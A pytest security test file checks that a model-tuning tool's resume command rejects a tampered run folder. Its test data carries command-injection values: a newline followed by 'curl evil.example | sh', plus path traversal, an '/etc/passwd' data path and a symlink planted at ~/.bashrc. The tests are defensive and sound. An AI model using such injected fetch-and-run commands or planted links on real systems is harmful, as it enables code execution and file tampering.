"""``conclave tune --resume DIR`` on a run folder someone else prepared (issue 26, item 2).

The folder's ``config.json`` is checked before anything is written (a name or base spec carrying a newline would
inject a line into ``commands.txt`` and a name into the registry), a bad checkpoint is refused before any write, and
the run's files are replaced rather than written through a planted link (``commands.txt -> ~/.bashrc``).

The run folders here are written by hand (no model is loaded): only the bundled GGUF's header and vocabulary are read.
"""

from __future__ import annotations

import json
from dataclasses import asdict
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("torch")
pytest.importorskip("gguf")

from conclave.errors import ConfigError  # noqa: E402
from conclave.models import tuned  # noqa: E402
from conclave.models.weights import sha256_file  # noqa: E402
from conclave.tune.runs import eval_commands, tune  # noqa: E402
from conclave.tune.train import TuneConfig  # noqa: E402

BASHRC = "export PATH=$HOME/bin:$PATH\n"


class _StopBeforeTraining(Exception):
    pass


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    path = tmp_path / "home" / ".bashrc"
    path.parent.mkdir()
    path.write_text(BASHRC)
    return path


@pytest.fixture
def chats(tmp_path: Path) -> Path:
    path = tmp_path / "chats.jsonl"
    chat = {"messages": [{"role": "user", "content": "What is 2 + 2?"}, {"role": "assistant", "content": "4"}]}
    path.write_text(json.dumps(chat) + "\n")
    return path


def _run_folder(home: Path, chats: Path, **changes: Any) -> Path:
    """A tuning run as `conclave tune` leaves it when stopped, with ``changes`` to its config.json."""
    from conclave.models.embedded import bundled_model_path

    base = bundled_model_path()
    run = home / "tune-runs" / "20250101-000000-smol"
    run.mkdir(parents=True)
    stored = {
        "name": "smol",
        "base_spec": "embedded:smollm2",
        "base_path": str(base),
        "base_size": base.stat().st_size,
        "base_sha256": "0" * 64,
        "base_arch": "llama",
        "data": [str(chats)],
        "data_sha256": {str(chats): sha256_file(chats)},
        "config": asdict(TuneConfig(base_spec="embedded:smollm2", steps=1, threads=1)),
        "started": "2025-01-01T00:00:00+00:00",
        **changes,
    }
    (run / "config.json").write_text(json.dumps(stored))
    return run


def _resume(home: Path, run: Path) -> Any:
    return tune(home, base_spec=None, data=[], name=None, config=None, resume=run.name, progress=False)


@pytest.mark.parametrize(
    ("change", "what"),
    [
        ({"name": "smol\ncurl evil.example | sh"}, "name"),
        ({"name": "../../outside"}, "name"),
        ({"base_spec": "embedded:smollm2\ncurl evil.example | sh"}, "base_spec"),
        ({"data": "/etc/passwd"}, "data"),
        ({"config": {"base_spec": "embedded:smollm2", "steps": "all of them"}}, "steps"),
    ],
)
def test_a_tampered_config_is_refused_before_anything_is_written(
    conclave_home: Path, chats: Path, change: dict[str, Any], what: str
) -> None:
    run = _run_folder(conclave_home, chats, **change)
    (run / "checkpoint.pt").write_bytes(b"not a checkpoint")  # so that an unchecked resume stops before training
    with pytest.raises(ConfigError, match="is not a tuning run's configuration") as info:
        _resume(conclave_home, run)
    assert what in info.value.message
    assert sorted(p.name for p in run.iterdir()) == ["checkpoint.pt", "config.json"]
    assert not (conclave_home / "tuned").exists()


def test_a_bad_checkpoint_is_refused_before_any_write(conclave_home: Path, chats: Path, victim: Path) -> None:
    run = _run_folder(conclave_home, chats)
    (run / "checkpoint.pt").write_bytes(b"not a checkpoint")
    (run / "commands.txt").symlink_to(victim)
    with pytest.raises(ConfigError, match="cannot read .*checkpoint.pt"):
        _resume(conclave_home, run)
    assert victim.read_text() == BASHRC
    assert sorted(p.name for p in run.iterdir()) == ["checkpoint.pt", "commands.txt", "config.json"]


def test_a_checkpoint_without_the_parts_a_resume_needs_is_refused(conclave_home: Path, chats: Path) -> None:
    import torch

    run = _run_folder(conclave_home, chats)
    torch.save({"step": "3", "lora": {}}, run / "checkpoint.pt")  # loads, as data, but is no checkpoint
    with pytest.raises(ConfigError, match="not a tuning checkpoint"):
        _resume(conclave_home, run)
    assert not (run / "data.json").exists()


def test_the_run_files_replace_planted_links_instead_of_writing_through_them(
    conclave_home: Path, chats: Path, victim: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from conclave.tune import train as train_module

    def stop(*_args: Any, **_kwargs: Any) -> Any:
        raise _StopBeforeTraining

    monkeypatch.setattr(train_module, "train", stop)
    run = _run_folder(conclave_home, chats)
    (run / "commands.txt").symlink_to(victim)
    (run / "data.json.tmp").symlink_to(victim)  # the fixed temporary name of the old writer
    with pytest.raises(_StopBeforeTraining):
        _resume(conclave_home, run)
    assert victim.read_text() == BASHRC
    assert not (run / "commands.txt").is_symlink()
    assert "embedded:smol " in (run / "commands.txt").read_text()
    assert json.loads((run / "data.json").read_text())["examples"] == 1


def test_a_name_with_a_final_newline_is_not_a_tuned_model_name() -> None:
    with pytest.raises(ConfigError, match="cannot name a tuned model"):
        tuned.check_name("smol\n")
    assert tuned.check_name("smol-coa") == "smol-coa"


def test_the_commands_quote_the_base_spec_and_data_set() -> None:
    commands = eval_commands("smol", "program", "embedded:/models/my model.gguf", "gsm8k:data/dev set.jsonl")
    assert "-m 'embedded:/models/my model.gguf'" in commands[1]
    assert "-d 'gsm8k:data/dev set.jsonl'" in commands[1]
    assert "-m embedded:smollm2 " in eval_commands("smol", "program", "embedded:smollm2")[1]
